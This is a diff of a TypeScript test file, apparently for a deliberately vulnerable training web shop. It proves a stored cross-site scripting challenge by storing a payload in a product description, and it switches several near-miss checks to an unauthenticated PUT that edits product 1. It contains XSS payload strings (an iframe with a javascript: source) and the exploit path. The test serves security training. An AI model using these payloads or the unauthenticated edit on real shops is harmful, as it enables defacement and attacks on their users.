@@ -9,20 +9,23 @@ async function addProduct(attacker: Attacker, product: object): Promise<unknown>
   return attacker.post('/api/Products', { name: 'Windfall Punch', price: 3.5, ...product })
 }
 
+/** Not even an account is needed for it. */
+const change = (attacker: Attacker, fields: object) => attacker.put('/api/Products/1', fields)
+
 export const proof = prove(challenge, {
   exploit: (attacker) => addProduct(attacker, { description: PAYLOAD }),
   nearMisses: {
     'an ordinary description': (attacker) =>
-      addProduct(attacker, { description: 'Plain. <a href="https://regret.example">More...</a>' }),
+      change(attacker, { description: 'Plain. <a href="https://regret.example">More...</a>' }),
     'the payload already escaped': (attacker) =>
-      addProduct(attacker, { description: '&lt;iframe src="javascript:alert(`xss`)"&gt;' }),
+      change(attacker, { description: '&lt;iframe src="javascript:alert(`xss`)"&gt;' }),
     'the payload without its brackets': (attacker) =>
-      addProduct(attacker, { description: 'iframe src="javascript:alert(`xss`)"' }),
+      change(attacker, { description: 'iframe src="javascript:alert(`xss`)"' }),
     'the payload as the title of a word, where nothing runs': (attacker) =>
-      addProduct(attacker, { description: `<b title='${PAYLOAD}'>Plain.</b>` }),
-    'the payload as the name, which is shown as text': (attacker) => addProduct(attacker, { name: PAYLOAD }),
-    'a product that is refused, since nothing is stored': (attacker) =>
-      addProduct(attacker, { description: PAYLOAD, price: 'a song' }),
+      change(attacker, { description: `<b title='${PAYLOAD}'>Plain.</b>` }),
+    'the payload as the name, which is shown as text': (attacker) => change(attacker, { name: PAYLOAD }),
+    'a change that is refused, since nothing is stored': (attacker) =>
+      change(attacker, { description: PAYLOAD, price: -1 }),
     'the payload sent by somebody who is not signed in': (attacker) =>
       attacker.post('/api/Products', { name: 'Windfall Punch', price: 3.5, description: PAYLOAD }),
     'a change of a product that is not there': (attacker) =>
